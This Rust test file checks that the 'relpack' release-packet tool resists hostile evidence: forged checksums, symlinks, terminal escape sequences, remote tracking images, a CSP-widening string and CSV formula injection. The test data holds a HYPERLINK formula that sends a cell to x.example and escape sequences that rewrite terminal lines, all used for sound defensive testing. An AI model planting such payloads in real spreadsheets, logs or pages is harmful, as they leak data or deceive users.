//! Hostile and careless use, output side (issue 15): relpack replaces
//! nothing but its own output, switches a release folder atomically and
//! cleans up after killed builds, `verify` trusts only the evidence, the
//! terminal never gets raw control characters from the evidence, the site
//! loads nothing remote, and the CSV cannot start a formula.

use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;

use assert_fs::prelude::*;
use assert_fs::TempDir;

use super::*;

const REQS: &str = r#"
[[requirement]]
id = "REQ-1"
title = "Bolus limit"
text = "The pump shall limit the bolus."

[[test]]
id = "T-1"
title = "Bolus limit test"
method = "manual"
verifies = ["REQ-1"]

[[result]]
id = "R-1"
test = "T-1"
outcome = "pass"
executed_by = "ci"
executed_at = 2026-11-19T10:00:00+01:00
version = "1.0.0"
"#;

fn evidence() -> TempDir {
    tree(&[("relpack.toml", CONFIG), ("reqs.toml", REQS)])
}

/// `relpack build ROOT --out OUT` with extra arguments, run in `cwd`.
fn build_in(cwd: &Path, root: &str, out: &str, extra: &[&str]) -> std::process::Output {
    relpack()
        .current_dir(cwd)
        .args(["build", root, "--out", out, "--no-pdf"])
        .args(extra)
        .env("SOURCE_DATE_EPOCH", "1763600000")
        .output()
        .unwrap()
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).to_string()
}

/// Every file under `dir`, relative, sorted.
fn files_under(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = walkdir::WalkDir::new(dir)
        .into_iter()
        .flatten()
        .filter(|e| !e.file_type().is_dir())
        .map(|e| {
            e.path()
                .strip_prefix(dir)
                .unwrap()
                .to_string_lossy()
                .to_string()
        })
        .collect();
    v.sort();
    v
}

// (1) Nothing but relpack's own output is replaced.

#[test]
fn an_evidence_root_that_is_the_release_folder_or_inside_it_is_refused() {
    let out = TempDir::new().unwrap();
    let release = out.child("TP-1.0.0");
    // The issue's case: the evidence root is the folder the build replaces.
    release.child("relpack.toml").write_str(CONFIG).unwrap();
    release.child("reqs.toml").write_str(REQS).unwrap();
    let before = files_under(release.path());
    let o = build_in(out.path(), "TP-1.0.0", ".", &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("the release folder this build would replace"),
        "{}",
        stderr(&o)
    );
    assert_eq!(files_under(release.path()), before);

    // Inside it, named through a relative path with `..`, and through a
    // symbolic link: all refused, nothing touched.
    let inner = out.child("TP-1.0.0/evidence");
    inner.child("relpack.toml").write_str(CONFIG).unwrap();
    inner.child("reqs.toml").write_str(REQS).unwrap();
    let before = files_under(out.path());
    let o = build_in(out.path(), "TP-1.0.0/evidence/../evidence", "./x/..", &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    let elsewhere = TempDir::new().unwrap();
    std::os::unix::fs::symlink(inner.path(), elsewhere.path().join("ev")).unwrap();
    let o = build_in(elsewhere.path(), "ev", out.path().to_str().unwrap(), &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("would delete the evidence"),
        "{}",
        stderr(&o)
    );
    assert_eq!(files_under(out.path()), before);
}

#[test]
fn out_equal_to_the_root_and_foreign_files_in_out_are_refused() {
    let t = evidence();
    let before = files_under(t.path());
    let o = build_in(t.path(), ".", ".", &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("is the evidence root"),
        "{}",
        stderr(&o)
    );
    assert_eq!(files_under(t.path()), before);

    // A folder of the release's name that relpack did not write.
    let out = TempDir::new().unwrap();
    out.child("TP-1.0.0/notes.txt").write_str("mine").unwrap();
    let o = build_in(t.path(), ".", out.path().to_str().unwrap(), &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("is not a relpack packet folder"),
        "{}",
        stderr(&o)
    );
    assert_eq!(files_under(out.path()), vec!["TP-1.0.0/notes.txt"]);

    // An index.html that is not relpack's list of releases.
    let out = TempDir::new().unwrap();
    out.child("index.html")
        .write_str("<h1>my site</h1>")
        .unwrap();
    let o = build_in(t.path(), ".", out.path().to_str().unwrap(), &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("is not relpack's list of releases"),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        std::fs::read_to_string(out.path().join("index.html")).unwrap(),
        "<h1>my site</h1>"
    );
}

#[test]
fn out_inside_the_root_builds_and_is_never_read_as_evidence() {
    let t = evidence();
    let o = build_in(t.path(), ".", "dist", &[]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let first = std::fs::read(t.path().join("dist/TP-1.0.0/packet.json")).unwrap();
    // Evidence in OUT that relpack did not write would be left out: the
    // verdict would depend on where the output goes. Refused, saying so.
    t.child("dist/planted.toml").write_str(REQS).unwrap();
    let o = build_in(t.path(), ".", "dist", &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("planted.toml, which looks like evidence"),
        "{}",
        stderr(&o)
    );
    std::fs::remove_file(t.path().join("dist/planted.toml")).unwrap();
    t.child("dist/notes/ANOM-9.md")
        .write_str("+++\nkind = \"anomaly\"\nid = \"ANOM-9\"\n+++\n")
        .unwrap();
    let o = build_in(t.path(), ".", "dist", &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("ANOM-9.md, which looks like evidence"),
        "{}",
        stderr(&o)
    );
    std::fs::remove_dir_all(t.path().join("dist/notes")).unwrap();
    // A README or a .gitignore of the user's is no evidence: fine; nor is
    // what discovery skips anyway (hidden entries, relpack.toml's exclude).
    t.child("dist/README.md")
        .write_str("# the packets\n")
        .unwrap();
    t.child("dist/.cargo/config.toml")
        .write_str("[build]\n")
        .unwrap();
    let o = build_in(t.path(), ".", "dist", &[]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    // A JUnit report there, whatever its prolog, is evidence left out.
    let report = format!(
        "<?xml version=\"1.0\"?>\n<!-- {} -->\n<testsuite name=\"s\"><testcase classname=\"c\" name=\"n\"><failure/></testcase></testsuite>\n",
        "x".repeat(5000)
    );
    t.child("dist/ci/report.xml").write_str(&report).unwrap();
    let o = build_in(t.path(), ".", "dist", &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("report.xml, which looks like evidence"),
        "{}",
        stderr(&o)
    );
    std::fs::remove_dir_all(t.path().join("dist/ci")).unwrap();
    // relpack's own files in OUT, through a link from the root (a parse
    // cache entry is TOML): not read (an item there would be a duplicate id).
    let cached = std::fs::read_dir(t.path().join("dist/.relpack-cache/parse"))
        .unwrap()
        .flatten()
        .next()
        .expect("a parse cache entry")
        .path();
    std::os::unix::fs::symlink(&cached, t.path().join("linked.toml")).unwrap();
    let o = build_in(t.path(), ".", "dist", &[]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let second = std::fs::read(t.path().join("dist/TP-1.0.0/packet.json")).unwrap();
    assert_eq!(first, second, "the second build read its own output");
    // verify's rebuild skips the packet's OUT the same way.
    let (code, text) = verify(&t.path().join("dist/TP-1.0.0"), Some(t.path()));
    assert_eq!(code, 0, "{text}");
    // The same with OUT named through another path to the same place.
    let o = build_in(
        &t.path().join("dist"),
        "..",
        t.path().join("dist").to_str().unwrap(),
        &[],
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
}

/// relpack's cache folder in OUT (or a folder in it) that is a symbolic
/// link, as an evidence repository could commit when OUT lies inside it,
/// is refused before anything is written: the caches never land where it
/// points (here the evidence root itself).
#[test]
fn a_linked_cache_folder_in_out_is_refused_and_nothing_is_written_through_it() {
    let t = evidence();
    let o = build_in(t.path(), ".", "dist", &[]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let cache = t.path().join("dist/.relpack-cache");
    std::fs::remove_dir_all(&cache).unwrap();
    let before = files_under(t.path());
    std::os::unix::fs::symlink("..", &cache).unwrap();
    let o = build_in(t.path(), ".", "dist", &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("is a symbolic link"), "{}", stderr(&o));
    // One folder inside it, the spare packet a next build would stage in.
    std::fs::remove_file(&cache).unwrap();
    std::fs::create_dir(&cache).unwrap();
    std::os::unix::fs::symlink("../..", cache.join("TP-1.0.0.spare")).unwrap();
    let o = build_in(t.path(), ".", "dist", &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("TP-1.0.0.spare is a symbolic link"),
        "{}",
        stderr(&o)
    );
    std::fs::remove_file(cache.join("TP-1.0.0.spare")).unwrap();
    assert_eq!(
        files_under(t.path()),
        before,
        "a file was written through the link"
    );
    // A link one folder into the spare (its items/, pointing at the
    // evidence): the spare is dropped, the build a full one, and nothing is
    // written through the link.
    std::fs::remove_dir_all(&cache).unwrap();
    for _ in 0..3 {
        let o = build_in(t.path(), ".", "dist", &[]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    }
    let spare = cache.join("TP-1.0.0.spare");
    assert!(spare.is_dir(), "no spare after three builds");
    std::fs::remove_dir_all(spare.join("items")).unwrap();
    std::fs::create_dir(t.path().join("target")).unwrap();
    std::os::unix::fs::symlink(t.path().join("target"), spare.join("items")).unwrap();
    let o = build_in(t.path(), ".", "dist", &[]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_dir(t.path().join("target")).unwrap().count(),
        0,
        "pages were written through a linked folder of the spare"
    );
}

/// Two versions whose folder names come out the same (`~` becomes `-`)
/// never replace each other's packet: the second build is refused and the
/// first packet stays; a rebuild of the same version still replaces its
/// own. A version too long for a folder name is refused with a reason.
#[test]
fn a_version_whose_folder_name_another_release_has_is_refused() {
    let t = evidence();
    let out = TempDir::new().unwrap();
    let dir = out.path().to_str().unwrap();
    let root = t.path().to_str().unwrap();
    // Its results are for 1.0.0: built, not releasable (exit 1).
    let o = build_in(t.path(), root, dir, &["--version", "2.4.0-rc1"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let packet = out.path().join("TP-2.4.0-rc1/packet.json");
    let first = std::fs::read(&packet).unwrap();
    let o = build_in(t.path(), root, dir, &["--version", "2.4.0~rc1"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains(
            "holds the packet of version 2.4.0-rc1, and version 2.4.0~rc1 has the same folder name"
        ),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        std::fs::read(&packet).unwrap(),
        first,
        "the earlier release was replaced"
    );
    let o = build_in(t.path(), root, dir, &["--version", "2.4.0-rc1"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let long = "v".repeat(300);
    let o = build_in(t.path(), root, dir, &["--version", &long]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("more than relpack takes"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn out_inside_a_git_work_tree_does_not_make_it_dirty() {
    require_tool("git");
    let t = evidence();
    let git = |args: &[&str]| {
        super::git(t.path(), args);
    };
    git(&["init", "-q"]);
    git(&["add", "."]);
    git(&["commit", "-q", "-m", "evidence"]);
    let packet = || {
        let o = build_in(t.path(), ".", "dist", &[]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        let v: serde_json::Value = serde_json::from_slice(
            &std::fs::read(t.path().join("dist/TP-1.0.0/packet.json")).unwrap(),
        )
        .unwrap();
        v["release"]["source"]["dirty"].clone()
    };
    assert_eq!(packet(), serde_json::json!(false));
    // dist/ is now untracked in the work tree: still not dirty.
    assert_eq!(packet(), serde_json::json!(false));
}

// (5) Atomic for real.

fn hidden_entries(out: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(out)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().to_string())
        .filter(|n| n.starts_with('.') && n != ".relpack-cache")
        .collect();
    v.sort();
    v
}

/// The id of a process that has ended.
fn dead_pid() -> u32 {
    let mut child = std::process::Command::new("true").spawn().unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

#[test]
fn stale_temporary_folders_of_dead_builds_are_removed_and_live_ones_kept() {
    let t = evidence();
    let (out, folder, _, _) = build_packet(t.path(), &["--no-pdf"]);
    let dead = dead_pid();
    let live = std::process::id();
    for name in [
        format!(".TP-1.0.0.tmp-{dead}/items/REQ-1.html"),
        format!(".TP-1.0.0.old-{dead}/packet.json"),
        format!(".OTHER-2.0.tmp-{dead}/x"),
        format!(".TP-1.0.0.tmp-{live}/x"),
    ] {
        out.child(&name).write_str("stale").unwrap();
    }
    out.child(format!(".index.html.tmp-{dead}"))
        .write_str("stale")
        .unwrap();
    out.child(".keep-me").write_str("not relpack's").unwrap();
    let o = build_in(t.path(), ".", out.path().to_str().unwrap(), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let mut expected = vec![".keep-me".to_string(), format!(".TP-1.0.0.tmp-{live}")];
    expected.sort();
    assert_eq!(hidden_entries(out.path()), expected);
    assert!(folder.join("packet.json").is_file());
}

#[test]
fn a_packet_moved_aside_by_a_killed_build_is_put_back() {
    let t = evidence();
    let (out, folder, _, _) = build_packet(t.path(), &["--no-pdf"]);
    // A build killed between moving the old folder aside and moving the new
    // one in (the fallback where no atomic exchange exists).
    let aside = out.path().join(format!(".TP-1.0.0.old-{}", dead_pid()));
    std::fs::rename(&folder, &aside).unwrap();
    // The next build moves it back before it starts, then replaces it.
    let o = build_in(t.path(), ".", out.path().to_str().unwrap(), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(folder.join("packet.json").is_file());
    assert!(
        hidden_entries(out.path()).is_empty(),
        "{:?}",
        hidden_entries(out.path())
    );
}

#[test]
fn readers_see_a_whole_packet_at_every_instant() {
    let t = evidence();
    let (out, folder, _, _) = build_packet(t.path(), &["--no-pdf"]);
    let stop = Arc::new(AtomicBool::new(false));
    let (misses, reads) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let reader = {
        let (stop, misses, reads) = (stop.clone(), misses.clone(), reads.clone());
        let (packet, index) = (folder.join("packet.json"), out.path().join("index.html"));
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                for f in [&packet, &index] {
                    match std::fs::read(f) {
                        Ok(b) if !b.is_empty() => {}
                        _ => {
                            misses.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                }
                reads.fetch_add(1, Ordering::Relaxed);
            }
        })
    };
    for _ in 0..4 {
        let o = build_in(t.path(), ".", out.path().to_str().unwrap(), &[]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    }
    stop.store(true, Ordering::Relaxed);
    reader.join().unwrap();
    assert!(reads.load(Ordering::Relaxed) > 0);
    assert_eq!(
        misses.load(Ordering::Relaxed),
        0,
        "a reader found no packet"
    );
}

#[test]
fn a_build_killed_at_any_point_leaves_the_earlier_packet() {
    let t = evidence();
    // A few hundred items, so a build lasts long enough to be killed in
    // each stage.
    let mut many = String::new();
    for i in 0..400 {
        many.push_str(&format!(
            "[[requirement]]\nid = \"REQ-M{i}\"\ntitle = \"Many {i}\"\ntext = \"Text {i}.\"\n\n"
        ));
    }
    t.child("many.toml").write_str(&many).unwrap();
    let (out, folder, _, _) = build_packet(t.path(), &["--no-pdf"]);
    for delay_ms in [0, 5, 20, 50, 100, 150, 250, 400, 700] {
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_relpack"))
            .args(["build", "--no-pdf", "--out"])
            .arg(out.path())
            .arg(t.path())
            .env("CI", "1")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
        let _ = child.kill();
        let _ = child.wait();
        assert!(
            folder.join("packet.json").is_file() && folder.join("SHA256SUMS").is_file(),
            "killed after {delay_ms} ms: no packet"
        );
        relpack().arg("verify").arg(&folder).assert().success();
    }
    let o = build_in(t.path(), ".", out.path().to_str().unwrap(), &[]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        hidden_entries(out.path()).is_empty(),
        "left behind: {:?}",
        hidden_entries(out.path())
    );
}

// (6) verify trusts nothing but the evidence.

/// Recompute SHA256SUMS over the folder's files, as a forger would.
fn forge_sums(folder: &Path) {
    use sha2::Digest;
    let sums: String = files_under(folder)
        .into_iter()
        .filter(|rel| rel != "SHA256SUMS")
        .map(|rel| {
            let bytes = std::fs::read(folder.join(&rel)).unwrap_or_default();
            format!("{:x}  {rel}\n", sha2::Sha256::digest(bytes))
        })
        .collect();
    std::fs::write(folder.join("SHA256SUMS"), sums).unwrap();
}

fn verify(folder: &Path, root: Option<&Path>) -> (i32, String) {
    let mut c = relpack();
    c.arg("verify").arg(folder);
    if let Some(r) = root {
        c.arg("--root").arg(r);
    }
    let o = c.output().unwrap();
    (
        o.status.code().unwrap_or(-1),
        format!("{}{}", String::from_utf8_lossy(&o.stdout), stderr(&o)),
    )
}

/// A packet that fails a gate (REQ-2 has no test), to be forged.
fn failing_packet() -> (TempDir, TempDir, PathBuf) {
    let t = tree(&[
        ("relpack.toml", CONFIG),
        ("reqs.toml", REQS),
        (
            "more.toml",
            "[[requirement]]\nid = \"REQ-2\"\ntitle = \"Untested\"\ntext = \"The pump shall alarm.\"\n",
        ),
    ]);
    let (out, folder, code, _) = build_packet(t.path(), &["--no-pdf"]);
    assert_eq!(code, 1);
    (t, out, folder)
}

#[test]
fn verify_with_the_evidence_passes_an_intact_packet_with_its_pdf() {
    let t = evidence();
    let (_out, folder, code, _) = build_packet(t.path(), &[]);
    assert_eq!(code, 0);
    let (code, text) = verify(&folder, Some(t.path()));
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("verified:"), "{text}");
    assert!(text.contains("byte for byte"), "{text}");
}

#[test]
fn verify_without_the_evidence_says_what_it_could_not_check() {
    let (_t, _out, folder) = failing_packet();
    let (code, text) = verify(&folder, None);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("consistent:"), "{text}");
    assert!(!text.contains("verified"), "{text}");
    assert!(
        text.contains("not checked: that the evidence gives this packet"),
        "{text}"
    );
}

#[test]
fn verify_refuses_a_packet_json_forged_to_releasable() {
    let (t, _out, folder) = failing_packet();
    let path = folder.join("packet.json");
    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    v["status"] = "releasable".into();
    for g in v["gates"].as_array_mut().unwrap() {
        g["status"] = "held".into();
        g["findings"] = serde_json::json!([]);
    }
    std::fs::write(&path, serde_json::to_vec_pretty(&v).unwrap()).unwrap();
    forge_sums(&folder);
    // The manifest and digests alone cannot tell ...
    assert_eq!(verify(&folder, None).0, 0);
    // ... the evidence can.
    let (code, text) = verify(&folder, Some(t.path()));
    assert_eq!(code, 1, "{text}");
    assert!(
        text.contains("packet.json: differs from the file the evidence gives"),
        "{text}"
    );
}

#[test]
fn verify_refuses_a_deleted_page() {
    let (t, _out, folder) = failing_packet();
    std::fs::remove_file(folder.join("items/REQ-2.html")).unwrap();
    forge_sums(&folder);
    let (code, text) = verify(&folder, Some(t.path()));
    assert_eq!(code, 1, "{text}");
    assert!(text.contains("items/REQ-2.html: missing"), "{text}");
    // Unforged, the manifest alone catches it too.
    let (_t, _out, folder) = failing_packet();
    std::fs::remove_file(folder.join("items/REQ-2.html")).unwrap();
    let (code, text) = verify(&folder, None);
    assert_eq!(code, 1, "{text}");
    assert!(
        text.contains("listed in SHA256SUMS but not in the packet"),
        "{text}"
    );
}

#[test]
fn verify_refuses_a_symbolic_link_and_unlisted_files() {
    let (t, _out, folder) = failing_packet();
    std::fs::remove_file(folder.join("index.html")).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", folder.join("index.html")).unwrap();
    forge_sums(&folder);
    for root in [None, Some(t.path())] {
        let (code, text) = verify(&folder, root);
        assert_eq!(code, 1, "{text}");
        assert!(text.contains("index.html: a symbolic link"), "{text}");
    }
    let (_t, _out, folder) = failing_packet();
    std::fs::write(folder.join("extra.html"), "<p>added</p>").unwrap();
    let (code, text) = verify(&folder, None);
    assert_eq!(code, 1, "{text}");
    assert!(
        text.contains("extra.html: in the packet but not in SHA256SUMS"),
        "{text}"
    );
}

// (7) No raw control character from the evidence reaches a terminal.

#[test]
fn an_escape_sequence_in_a_junit_case_name_is_shown_escaped() {
    let junit = "<testsuite name=\"s\"><testcase classname=\"c\" name=\"evil\u{1b}[2K\u{1b}[1A  held  test-passed\">\
                 <properties><property name=\"verifies\" value=\"REQ-1\"/></properties>\
                 <failure message=\"no\"/></testcase></testsuite>";
    let t = tree(&[
        ("relpack.toml", CONFIG),
        ("reqs.toml", REQS),
        ("results/junit.xml", junit),
    ]);
    let o = relpack().arg("check").arg(t.path()).output().unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let all = [o.stdout.as_slice(), o.stderr.as_slice()].concat();
    assert!(!all.contains(&0x1b), "a raw ESC reached the terminal");
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(
        stdout.contains(r"JUnit case `c::evil\u{1b}[2K\u{1b}[1A  held  test-passed`")
            || stdout.contains(r"evil\u{1b}[2K\u{1b}[1A"),
        "{stdout}"
    );
    // Coloured output keeps its own escape sequences, and only those.
    let o = relpack()
        .args(["--color", "always", "check"])
        .arg(t.path())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(stdout.contains(r"evil\u{1b}[2K"), "{stdout}");
    assert!(!stdout.contains("\u{1b}[2K"), "{stdout}");
}

#[test]
fn ids_from_packet_json_in_relpack_diff_are_shown_escaped() {
    let t = evidence();
    let (_out, folder, _, _) = build_packet(t.path(), &["--no-pdf"]);
    let old = folder.join("packet.json");
    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&old).unwrap()).unwrap();
    let mut item = v["items"][0].clone();
    item["id"] = "REQ-\u{1b}]0;pwned\u{7}".into();
    item["title"] = "title \u{1b}[31mred\u{9b}".into();
    v["items"].as_array_mut().unwrap().push(item);
    let new = t.path().join("new.json");
    std::fs::write(&new, serde_json::to_vec(&v).unwrap()).unwrap();
    let o = relpack().arg("diff").arg(&old).arg(&new).output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(!o.stdout.contains(&0x1b) && !o.stdout.contains(&0x07));
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(stdout.contains(r"REQ-\u{1b}]0;pwned\u{7}"), "{stdout}");
    assert!(stdout.contains(r"title \u{1b}[31mred\u{9b}"), "{stdout}");
}

// (8) The site loads nothing remote.

const TRACKED: &str = r#"
[[requirement]]
id = "REQ-1"
title = "Bolus limit"
text = """
The pump shall limit the bolus.

![pixel](https://tracker.example/p.png) and <img src=https://tracker.example/q.png alt="raw">

![allowed](https://img.example.com/diagram.png)
"""
"#;

#[test]
fn every_page_carries_a_content_security_policy() {
    // The sample has Markdown tables with aligned columns: no inline style.
    let (out, folder, _, _) = build_packet(&repo_path("sample-evidence"), &["--no-pdf"]);
    let mut pages = 0;
    for rel in files_under(&folder)
        .into_iter()
        .filter(|f| f.ends_with(".html"))
    {
        let html = std::fs::read_to_string(folder.join(&rel)).unwrap();
        assert!(
            html.contains(
                "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self';"
            ),
            "{rel}"
        );
        assert!(
            !html.contains(" onsubmit=") && !html.contains(" onclick="),
            "{rel}"
        );
        assert!(
            !html.contains(" style="),
            "{rel}: an inline style the policy refuses"
        );
        pages += 1;
    }
    assert!(pages > 10);
    let list = std::fs::read_to_string(out.path().join("index.html")).unwrap();
    assert!(list.contains("Content-Security-Policy\" content=\"default-src 'none';"));
}

#[test]
fn remote_images_are_links_unless_their_host_is_listed() {
    let t = tree(&[("relpack.toml", CONFIG), ("reqs.toml", TRACKED)]);
    let (_out, folder, _, _) = build_packet(t.path(), &["--no-pdf"]);
    let page = std::fs::read_to_string(folder.join("items/REQ-1.html")).unwrap();
    assert!(!page.contains("<img src=\"https://"), "{page}");
    assert!(
        page.contains("<a href=\"https://tracker.example/p.png\""),
        "{page}"
    );
    assert!(
        page.contains("<a href=\"https://tracker.example/q.png\""),
        "{page}"
    );
    assert!(
        page.contains("<a href=\"https://img.example.com/diagram.png\""),
        "{page}"
    );

    let config = CONFIG.replace(
        "[gates]",
        "[packet]\nremote_images = [\"img.example.com\"]\n\n[gates]",
    );
    let t = tree(&[("relpack.toml", &config), ("reqs.toml", TRACKED)]);
    let (_out, folder, _, _) = build_packet(t.path(), &["--no-pdf"]);
    let page = std::fs::read_to_string(folder.join("items/REQ-1.html")).unwrap();
    assert!(
        page.contains("<img src=\"https://img.example.com/diagram.png\""),
        "{page}"
    );
    assert!(
        page.contains("<a href=\"https://tracker.example/p.png\""),
        "{page}"
    );
    assert!(
        page.contains("img-src 'self' http://img.example.com https://img.example.com;"),
        "{page}"
    );

    // Only host names: anything else could widen the policy.
    let config = CONFIG.replace(
        "[gates]",
        "[packet]\nremote_images = [\"https://*; script-src *\"]\n\n[gates]",
    );
    let t = tree(&[("relpack.toml", &config), ("reqs.toml", REQS)]);
    check_refuses(t.path(), "is not a host name");
}

// (9) trace-matrix.csv cannot start a formula.

/// The cells of a CSV file (RFC 4180: quoted cells may hold CR, LF, `,`).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        let row = rows.last_mut().unwrap();
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                row.last_mut().unwrap().push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => row.last_mut().unwrap().push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(String::new()),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                rows.push(vec![String::new()]);
            }
            (false, c) => row.last_mut().unwrap().push(c),
        }
    }
    rows.retain(|r| r.len() > 1);
    rows
}

#[test]
fn csv_cells_that_could_start_a_formula_are_neutralised() {
    let starts = ["\t", "\r", "=", "+", "-", "@", "\t=", "\r="];
    let mut reqs = String::new();
    for (i, s) in starts.iter().enumerate() {
        let title = format!("{s}HYPERLINK(\"http://x.example/?\"&A1)")
            .replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('\t', "\\t")
            .replace('\r', "\\r");
        reqs.push_str(&format!(
            "[[requirement]]\nid = \"REQ-{i}\"\ntitle = \"{title}\"\ntext = \"x\"\n\n"
        ));
    }
    let t = tree(&[("relpack.toml", CONFIG), ("reqs.toml", &reqs)]);
    let (_out, folder, _, _) = build_packet(t.path(), &["--no-pdf"]);
    let csv = std::fs::read_to_string(folder.join("trace-matrix.csv")).unwrap();
    let rows = csv_rows(&csv);
    for (i, s) in starts.iter().enumerate() {
        let row = rows
            .iter()
            .find(|r| r[0] == format!("REQ-{i}"))
            .unwrap_or_else(|| panic!("no row REQ-{i} in {csv:?}"));
        assert_eq!(
            row[1],
            format!("'{s}HYPERLINK(\"http://x.example/?\"&A1)"),
            "start {s:?}"
        );
    }
}
